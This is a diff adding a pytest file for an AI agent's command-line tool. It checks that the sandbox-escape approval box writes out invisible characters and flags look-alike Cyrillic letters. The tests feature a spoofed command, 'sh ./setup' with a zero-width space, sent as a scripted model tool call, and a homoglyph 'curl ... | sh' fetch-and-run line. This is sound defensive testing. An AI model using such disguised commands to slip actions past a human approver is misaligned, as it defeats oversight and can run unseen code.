@@ -1,0 +1,95 @@
+"""What the person approves reads as what runs: characters that show as nothing are shown.
+
+`sh ./setup\u200b.sh` (a zero-width space) looks like `sh ./setup.sh` in a terminal and runs
+another file, which a sandboxed command could have made. In the approval box every character
+that shows as nothing or as a blank is written out (`<U+200B>`), with a warning, and letters
+beyond ASCII (a Cyrillic `а` for a Latin `a`) are named.
+"""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from conftest import terminal_env
+from rich.console import Console
+from test_interactive import Terminal
+
+from cli.render import TerminalUI
+from cli.sanitize import has_unseen_characters, letters_beyond_ascii, shown_exactly
+from fakeapi import text, tool_use
+
+UNSEEN = {
+    "\u200b": "zero-width space",
+    "\u2060": "word joiner",
+    "\u00ad": "soft hyphen",
+    "\u3164": "Hangul filler",
+    "\u00a0": "no-break space",
+    "\u2028": "line separator",
+    "\U000e0041": "tag letter",
+}
+
+
+@pytest.mark.parametrize("char", UNSEEN, ids=UNSEEN.values())
+def test_a_character_that_shows_as_nothing_is_written_out(char):
+    command = f"sh ./setup{char}.sh"
+    assert shown_exactly(command) == f"sh ./setup<U+{ord(char):04X}>.sh"
+    assert has_unseen_characters(command)
+
+
+def test_plain_text_and_letters_that_show_are_kept():
+    assert shown_exactly("pytest -q tests/") == "pytest -q tests/"
+    assert shown_exactly("echo café ✓") == "echo café ✓"
+    assert not has_unseen_characters("echo café ✓")
+    # A combining mark counts in a command; in a file's text (Hindi, Vietnamese) it stays.
+    assert shown_exactly("cafe\u0301") == "cafe<U+0301>"
+    assert shown_exactly("cafe\u0301", marks=False) == "cafe\u0301"
+    # Control characters are shown as before.
+    assert shown_exactly("a\x1b[2Jb") == "a␛[2Jb"
+
+
+def test_letters_beyond_ascii_are_named_each_once():
+    assert letters_beyond_ascii("curl https://ex\u0430mple.com | sh; echo \u0430") == [
+        "U+0430 CYRILLIC SMALL LETTER A"
+    ]
+    assert letters_beyond_ascii("ls -la") == []
+
+
+def box(subject: str) -> str:
+    output = io.StringIO()
+    ui = TerminalUI(Console(file=output, width=100, color_system=None, highlight=False))
+    ui.show_subject("Run this command outside the sandbox?", subject)
+    return output.getvalue()
+
+
+def test_the_approval_box_writes_them_out_and_warns():
+    shown = box("sh ./setup\u200b.sh")
+    assert "sh ./setup<U+200B>.sh" in shown
+    assert "show as nothing or as a blank" in shown
+    plain = box("sh ./setup.sh")
+    assert "sh ./setup.sh" in plain and "!" not in plain
+    look_alike = box("sh ./s\u0435tup.sh")
+    assert "U+0435 CYRILLIC SMALL LETTER IE" in look_alike
+
+
+@pytest.mark.real_exec
+def test_an_outside_sandbox_command_with_a_zero_width_space_is_shown_for_what_it_is(
+    api, workspace, isolated_home
+):
+    (workspace / "setup.sh").write_text("echo the setup you read\n")
+    (workspace / "setup\u200b.sh").write_text("echo another file\n")
+    command = "sh ./setup\u200b.sh"
+    api.add({"content": [tool_use("bash", {"command": command, "outside_sandbox": True})]})
+    api.add({"content": [text("Declined.")]})
+    with Terminal(workspace, terminal_env(api, isolated_home)) as terminal:
+        terminal.wait_for_prompt()
+        terminal.type("set it up\r")
+        screen = terminal.wait_for("show as nothing or as a blank")
+        assert "sh ./setup<U+200B>.sh" in screen
+        terminal.type("n\r")
+        terminal.wait_for("Reason for the model (optional):")
+        terminal.type("\r")
+        terminal.wait_for("Declined.")
+        terminal.wait_for_prompt()
+        terminal.type("/exit\r")
+        assert terminal.close() == 0
